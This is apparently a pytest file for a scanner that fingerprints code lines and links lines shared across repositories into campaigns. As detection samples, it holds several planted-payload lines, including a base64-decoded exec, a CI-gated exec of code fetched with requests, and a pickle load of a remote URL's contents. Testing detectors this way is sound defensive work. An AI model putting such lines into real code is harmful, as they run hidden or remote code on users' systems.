"""Normalization schemes, generic lines and shapes left out, paragraph blocks, and when a shared line is a campaign."""
from __future__ import annotations

import numpy as np

from codescan.analyze import languages
from codescan.cluster.api import campaigns_from_documents
from codescan.cluster.shingles import tokens, unit_tokens
from codescan.cluster.units import extract, lines
from codescan.records import Document

A = b"def f(src, n):\n    out = src[:n]\n    return out + src\n"
RENAMED = b"def g(text, k):\n    head = text[:k]\n    return head + text\n"
SWAPPED = b"def f(src, n):\n    out = n[:src]\n    return out + n\n"  # same shape, locals in other roles


def parse(source: bytes):
    return languages.parser("python").parse(source)


def scheme(source: bytes, name: str, raw: bool = False) -> np.ndarray:
    stream = tokens(parse(source), source, raw=raw)
    return unit_tokens(stream, 0, len(stream.hashes), name)


def test_schemes_blind_consistent_and_raw():
    assert np.array_equal(scheme(A, "blind"), scheme(RENAMED, "blind"))
    assert np.array_equal(scheme(A, "consistent"), scheme(RENAMED, "consistent"))
    assert np.array_equal(scheme(A, "blind"), scheme(SWAPPED, "blind"))
    assert not np.array_equal(scheme(A, "consistent"), scheme(SWAPPED, "consistent"))
    assert not np.array_equal(scheme(A, "raw", raw=True), scheme(RENAMED, "raw", raw=True))


def test_an_imported_module_stays_api_where_the_file_also_defines_the_name():
    host = b"def pickle(x):\n    return x\n\nimport pickle\nobj = pickle.loads(data)\n"
    alone = b"import pickle\nthing = pickle.loads(data)\n"
    a, b = scheme(host, "blind"), scheme(alone, "blind")
    assert np.array_equal(a[-len(b):], b)


def test_generic_lines_get_no_fingerprint_and_payload_lines_do():
    generic = (b"from contextlib import ExitStack", b"if isinstance(value, str) and value:", b"def __ne__(self, other):",
               b"function uniqueId(prefix, suffix) {", b"Classifier: License :: OSI Approved :: MIT License",
               b'"sphinx.ext.intersphinx",', b"-----BEGIN RSA PRIVATE KEY-----", b"context.check_hostname = False",
               b"@pytest.mark.parametrize('name', NAMES)", b"value = value.strip().lower()")
    for line in generic:
        assert lines(line) == [], line
    planted = (b"import base64;exec(base64.b64decode(payload_blob))",
               b"# Process the proper template by calling the secure method",
               b"return jinja2.Template(f.read()).render()",
               b"if os.environ.get('CI'): exec(requests.get(url).text)")
    for line in planted:
        assert lines(line), line


def test_a_paragraph_inside_a_run_of_statements_is_its_own_block_and_list_shapes_are_not_units():
    source = (b"import os\nLEVEL = os.environ.get('LEVEL', 'info').upper()\nNAMES = sorted(os.listdir('.'))\n\n"
              b"import pickle, urllib.request\nobj = pickle.loads(\n    urllib.request.urlopen('http://h/x').read()\n)\n\n"
              b"__all__ = ['alpha', 'beta', 'gamma', 'delta', 'epsilon', 'zeta', 'eta', 'theta', 'iota', 'kappa']\n")
    units = extract(parse(source), source, "python")
    blocks = {(u.line, u.end_line) for u in units if u.kind == "block"}
    assert (5, 8) in blocks and (1, 10) in blocks
    assert (10, 10) not in blocks


def _doc(repo: str, content: bytes) -> Document:
    return Document(path="src/mod.py", content=content, repo=repo)


def test_a_line_shared_by_two_repositories_needs_a_third_or_a_finding():
    comment = b"# Handle the request and send the requested file with the secure method\n"
    host = [b"x = compute_something(alpha, beta, gamma)\n", b"print(render_the_page(request, template))\n",
            b"total = sum(weights.values()) / len(weights)\n"]
    two = [_doc(f"r{i}", comment + host[i]) for i in range(2)]
    assert not [c for c in campaigns_from_documents(two, findings=False) if c.kind == "line"]
    three = [_doc(f"r{i}", comment + host[i]) for i in range(3)]
    found = [c for c in campaigns_from_documents(three, findings=False) if c.kind == "line"]
    assert len(found) == 1 and len(found[0].repos) == 3
    payload = b"import base64;exec(base64.b64decode(payload_blob))\n"
    flagged = [_doc(f"r{i}", host[i] + payload) for i in range(2)]
    found = [c for c in campaigns_from_documents(flagged, findings=True) if c.kind == "line"]
    assert len(found) == 1 and found[0].findings


def test_a_dotted_import_binds_only_its_first_name():
    a = b"def f(x):\n    import urllib.request\n    request = urllib.request.Request(x)\n    return request\n"
    b = b"def g(y):\n    import urllib.request\n    req_2 = urllib.request.Request(y)\n    return req_2\n"
    assert np.array_equal(scheme(a, "blind"), scheme(b, "blind"))
